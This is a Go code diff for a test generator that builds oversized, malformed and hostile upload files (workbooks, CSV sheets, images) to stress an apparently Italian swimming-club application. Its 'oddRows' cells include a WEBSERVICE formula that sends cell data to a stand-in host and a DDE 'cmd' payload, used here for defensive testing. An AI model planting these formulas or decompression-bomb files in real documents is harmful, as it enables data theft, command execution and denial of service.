@@ -17,36 +17,117 @@ type File struct {
 	Name    string
 	Mode    string // modalita of the upload
 	Content []byte
+	Save    bool // not only tried
 }
 
-// Sheet and Logo are the kinds of upload.
+// The kinds of upload.
 const (
-	Sheet = "atleti"
-	Logo  = "logo"
+	sheet     = "atleti"
+	logo      = "logo"
+	records   = "record"
+	times     = "tempi"
+	entries   = "presenze"
+	baseTimes = "tempibase"
+	results   = "risultati"
 )
 
-// Files makes all of them, about twenty megabytes of memory each at a time.
-func Files() []func() File {
-	of := func(name, mode string, content func() []byte) func() File {
-		return func() File { return File{name, mode, content()} }
+// columnsOf are the first rows of their sheets.
+var columnsOf = map[string][]string{
+	sheet:     strings.Split("COD_AFF;COGNOME;NOME;SESSO;DATA_NASCITA;CODICE_FISCALE;NAZIONALITA;TESSERA;TIPO_TESSERAMENTO;QUALIFICA;EMAIL;TELEFONO;CATEGORIA_DIS", ";"),
+	records:   strings.Split("CIRCUITO;GARA;CATEGORIA;SESSO;VASCA;TEMPO;ATLETA;SOCIETA;LUOGO;DATA;DESCRIZIONE;DIS", ";"),
+	times:     strings.Split("TESSERA;COGNOME;NOME;ANNO;GARA;VASCA;DATA;TEMPO;MANIFESTAZIONE;LUOGO;TIPO;PASSAGGI", ";"),
+	entries:   strings.Split("TESSERA;COGNOME;NOME;ANNO;DATA_NASCITA;GARA;TEMPO;NOTE", ";"),
+	baseTimes: strings.Split("VASCA;ANNO;GARA;SESSO;CENTESIMI;TEMPO", ";"),
+	results:   strings.Split("TESSERA;COGNOME;NOME;ANNO;SESSO;COD_SOC;GARA;VASCA;DATA;LUOGO;TEMPO;STATO", ";"),
+}
+
+// Files makes all that a deployment takes, about twenty megabytes of memory each at a time. card is that of an athlete of the club that times
+// and entries are uploaded for; regional adds the files of results, which one body alone exchanges.
+func Files(card string, regional bool) []func() File {
+	out := athleteFiles()
+	kinds := []string{records, times, entries, baseTimes}
+	if regional {
+		out, kinds = nil, []string{results}
 	}
+	for _, kind := range kinds {
+		out = append(out, sheetFiles(kind)...)
+	}
+	if regional {
+		return out
+	}
+	return append(out, longFiles(card)...)
+}
+
+// of is a file that is made when it is its turn.
+func of(name, mode string, content func() []byte) func() File {
+	return func() File { return File{Name: name, Mode: mode, Content: content()} }
+}
+
+// sheetFiles are what any kind of sheet may be sent instead of itself.
+func sheetFiles(kind string) []func() File {
+	columns := columnsOf[kind]
+	wide := strings.Join(columns, ";") + strings.Repeat(";", 480)
 	return []func() File{
-		of("one shared text of 30 MB in 500 cells a row", Sheet, func() []byte { return workbook(sharedText(30<<20), sharedCells(500, 60)) }),
-		of("a shared text of 64 bytes in four million cells", Sheet, func() []byte { return workbook(sharedText(64), sharedCells(500, 8000)) }),
-		of("a million shared texts", Sheet, func() []byte { return workbook(manyTexts(990_000), sharedCells(14, 40_000)) }),
-		of("rows of 32 kB", Sheet, func() []byte { return workbook(sharedText(1), longRows(2800)) }),
-		of("a part of 90 MB that nobody reads", Sheet, func() []byte {
-			return workbook(sharedText(1), sharedCells(1, 1), part{"xl/media/x.bin", zeros(23 << 20)})
+		of("one shared text of 30 MB in 500 cells a row", kind, func() []byte { return workbook(columns, sharedText(30<<20), sharedCells(500, 60)) }),
+		of("a shared text of 64 bytes in four million cells", kind, func() []byte { return workbook(columns, sharedText(64), sharedCells(500, 8000)) }),
+		of("rows of 32 kB", kind, func() []byte { return workbook(columns, sharedText(1), longRows(columns, 2800)) }),
+		of("cells of formulas, NUL and marks", kind, func() []byte { return workbook(columns, sharedText(1), oddRows(columns, 4000)) }),
+		of("20 MB of separators", kind, func() []byte { return bytes.Repeat([]byte(";"), 20<<20-1) }),
+		of("columns up to the limit in 30 000 rows", kind, func() []byte { return []byte(wide + "\n" + strings.Repeat("x"+strings.Repeat(";", 490)+"y\n", 30_000)) }),
+		of("columns without end", kind, func() []byte { return []byte(wide + "\n" + strings.Repeat("x;", 15_000) + "\n") }),
+		of("bytes of no encoding", kind, func() []byte {
+			return append([]byte(strings.Join(columns, ";")+"\n"), bytes.Repeat([]byte("\xff\xfe\xc3\x28;L'\xf0\x9f\x8f\x8a;\xed\xa0\x80;\"\n"), 40_000)...)
 		}),
-		of("20 MB of separators", Sheet, func() []byte { return bytes.Repeat([]byte(";"), 20<<20-1) }),
-		of("one cell of 20 MB", Sheet, func() []byte { return append([]byte(`"`), bytes.Repeat([]byte("x"), 20<<20-2)...) }),
-		of("every cell of 50 000 rows wrong", Sheet, wrongRows),
-		of("a picture of 36 megapixels with 64 bits each", Logo, func() []byte { return picture(6000, 16, 6, 0) }),
-		of("a picture of 39 megapixels with 32 bits each", Logo, func() []byte { return picture(6250, 8, 6, 0) }),
-		of("a picture of 33 megapixels in passes", Logo, func() []byte { return picture(5700, 8, 6, 1) }),
-		of("a grey picture of 39 megapixels", Logo, func() []byte { return picture(6250, 8, 0, 0) }),
-		of("a picture of 10 000 megapixels", Logo, func() []byte { return picture(100_000, 1, 0, 0) }),
-		of("a picture in 300 layers", Logo, func() []byte { return layers(2000, 300) }),
+		of("every cell of 50 000 rows wrong", kind, func() []byte { return wrongRows(columns) }),
+	}
+}
+
+// longFiles are the costliest that are taken: fifty thousand good rows.
+func longFiles(card string) []func() File {
+	long := func(kind string, row func(i int) string) func() File {
+		return func() File {
+			var b bytes.Buffer
+			b.WriteString(strings.Join(columnsOf[kind], ";") + "\n")
+			for i := range 50_000 {
+				b.WriteString(row(i) + "\n")
+			}
+			return File{Name: "50 000 good rows", Mode: kind, Content: b.Bytes(), Save: true}
+		}
+	}
+	clock := func(i int) string { return fmt.Sprintf("%d:%02d.%02d", 20+i/6000%10, i/100%60, i%100) }
+	return []func() File{
+		long(records, func(i int) string {
+			return fmt.Sprintf("%d;1500 SL;Ragazzi;%s;%d;%s;Atleta %d;Società;Roma;04/05/2025;;%d", 1+i%3, []string{"M", "F"}[i/3%2], 25+25*(i/6%2), clock(i), i, i/12%2)
+		}),
+		long(times, func(i int) string {
+			return fmt.Sprintf("%s;;;;1500 SL;25;%02d/%02d/2025;%s;Gara %d;Roma;GARA;50=31.20 100=1:05.10", card, 1+i%28, 1+i/28%12, clock(i), i/5000)
+		}),
+		long(baseTimes, func(i int) string {
+			return fmt.Sprintf("%s;%d;100 SL;%d;%d;", []string{"LCM", "SCM"}[i%2], 2000+i/4%100, 1+i/2%2, 4000+i%2000)
+		}),
+	}
+}
+
+// athleteFiles are those of athletes and of pictures.
+func athleteFiles() []func() File {
+	columns := columnsOf[sheet]
+	return []func() File{
+		of("one shared text of 30 MB in 500 cells a row", sheet, func() []byte { return workbook(columns, sharedText(30<<20), sharedCells(500, 60)) }),
+		of("a shared text of 64 bytes in four million cells", sheet, func() []byte { return workbook(columns, sharedText(64), sharedCells(500, 8000)) }),
+		of("a million shared texts", sheet, func() []byte { return workbook(columns, manyTexts(990_000), sharedCells(14, 40_000)) }),
+		of("rows of 32 kB", sheet, func() []byte { return workbook(columns, sharedText(1), longRows(columns, 2800)) }),
+		of("a part of 90 MB that nobody reads", sheet, func() []byte {
+			return workbook(columns, sharedText(1), sharedCells(1, 1), part{"xl/media/x.bin", zeros(23 << 20)})
+		}),
+		of("20 MB of separators", sheet, func() []byte { return bytes.Repeat([]byte(";"), 20<<20-1) }),
+		of("one cell of 20 MB", sheet, func() []byte { return append([]byte(`"`), bytes.Repeat([]byte("x"), 20<<20-2)...) }),
+		of("every cell of 50 000 rows wrong", sheet, func() []byte { return wrongRows(columns) }),
+		of("a picture of 36 megapixels with 64 bits each", logo, func() []byte { return picture(6000, 16, 6, 0) }),
+		of("a picture of 39 megapixels with 32 bits each", logo, func() []byte { return picture(6250, 8, 6, 0) }),
+		of("a picture of 33 megapixels in passes", logo, func() []byte { return picture(5700, 8, 6, 1) }),
+		of("a grey picture of 39 megapixels", logo, func() []byte { return picture(6250, 8, 0, 0) }),
+		of("a picture of 10 000 megapixels", logo, func() []byte { return picture(100_000, 1, 0, 0) }),
+		of("a picture in 300 layers", logo, func() []byte { return layers(2000, 300) }),
 	}
 }
 
@@ -57,7 +138,7 @@ type part struct {
 }
 
 // workbook packs the texts and the sheet with what makes them a workbook.
-func workbook(texts, sheet func(io.Writer), more ...part) []byte {
+func workbook(columns []string, texts, rows func(io.Writer), more ...part) []byte {
 	const head = `<?xml version="1.0" encoding="UTF-8"?>`
 	fixed := func(text string) func(io.Writer) { return func(w io.Writer) { put(w, head+text) } }
 	var out bytes.Buffer
@@ -68,8 +149,8 @@ func workbook(texts, sheet func(io.Writer), more ...part) []byte {
 		{"xl/_rels/workbook.xml.rels", fixed(`<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>`)},
 		{"xl/sharedStrings.xml", texts},
 		{"xl/worksheets/sheet1.xml", func(w io.Writer) {
-			put(w, head+"<worksheet><sheetData>"+header)
-			sheet(w)
+			put(w, head+"<worksheet><sheetData>"+header(columns))
+			rows(w)
 			put(w, "</sheetData></worksheet>")
 		}},
 	}, more...) {
@@ -85,16 +166,14 @@ func workbook(texts, sheet func(io.Writer), more ...part) []byte {
 	return out.Bytes()
 }
 
-var columns = strings.Split("COD_AFF;COGNOME;NOME;SESSO;DATA_NASCITA;CODICE_FISCALE;NAZIONALITA;TESSERA;TIPO_TESSERAMENTO;QUALIFICA;EMAIL;TELEFONO;CATEGORIA_DIS", ";")
-
-// header is the first row of a sheet of athletes.
-var header = func() string {
+// header is the first row of a sheet.
+func header(columns []string) string {
 	row := "<row>"
 	for _, c := range columns {
 		row += `<c t="inlineStr"><is><t>` + c + "</t></is></c>"
 	}
 	return row + "</row>"
-}()
+}
 
 func sharedText(size int) func(io.Writer) {
 	return func(w io.Writer) {
@@ -118,14 +197,31 @@ func sharedCells(cells, rows int) func(io.Writer) {
 	return func(w io.Writer) { repeat(w, "<row>"+strings.Repeat(`<c t="s"><v>0</v></c>`, cells)+"</row>", rows) }
 }
 
-func longRows(rows int) func(io.Writer) {
+func longRows(columns []string, rows int) func(io.Writer) {
 	return func(w io.Writer) {
 		repeat(w, "<row>"+strings.Repeat(`<c t="inlineStr"><is><t>`+strings.Repeat("y", 2400)+"</t></is></c>", len(columns))+"</row>", rows)
 	}
 }
 
+// oddRows are cells that a spreadsheet would compute, and texts that no database or page should meet.
+func oddRows(columns []string, rows int) func(io.Writer) {
+	odd := []string{
+		`<c><f>WEBSERVICE("http://posta.example/"&amp;A1)</f><v>1</v></c>`, `<c t="str"><v>=cmd|' /C calc'!A1</v></c>`, `<c t="str"><v>a_x0000_b_x000A_c</v></c>`, `<c t="str"><v>L'altro &#x1F3CA; &#x202E;</v></c>`,
+		`<c t="b"><v>1</v></c>`, `<c t="e"><v>#REF!</v></c>`, `<c><v>1E+308</v></c>`, `<c><v>-2958466</v></c>`,
+	}
+	return func(w io.Writer) {
+		for i := range rows {
+			put(w, "<row>")
+			for c := range columns {
+				put(w, odd[(i+c)%len(odd)])
+			}
+			put(w, "</row>")
+		}
+	}
+}
+
 // wrongRows is a file in which no cell can be taken.
-func wrongRows() []byte {
+func wrongRows(columns []string) []byte {
 	var out bytes.Buffer
 	out.WriteString(strings.Join(columns, ";") + "\n")
 	for i := range 50_000 {
